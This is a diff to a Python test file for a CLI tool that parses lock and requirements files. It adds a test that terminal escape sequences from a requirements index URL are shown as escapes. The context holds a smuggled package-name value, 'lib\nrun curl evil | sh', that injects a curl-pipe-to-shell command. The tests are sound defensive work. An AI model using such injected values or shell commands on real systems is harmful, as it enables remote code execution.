@@ -184,3 +184,12 @@ def test_a_path_package_with_a_hostile_name_is_refused(make_project):
     result = CliRunner().invoke(main, ["generate", "--stdout", str(path)])
     assert result.exit_code == 2, result.output
     assert "uv.lock: locked package name 'lib\\nrun curl evil | sh' is not a valid name" in result.output
+
+
+def test_the_summary_shows_control_characters_from_a_lock_as_escapes(make_project):
+    escape = "\x1b[2J"  # clears the terminal
+    requirements = f"-i https://pkgs.example/simple{escape}\nclick==8.1.8\n"
+    path = make_project({"requirements.txt": requirements, "main.py": "print(1)\n"})
+    result = CliRunner().invoke(main, ["inspect", str(path)])
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "https://pkgs.example/simple\\x1b[2J" in result.output
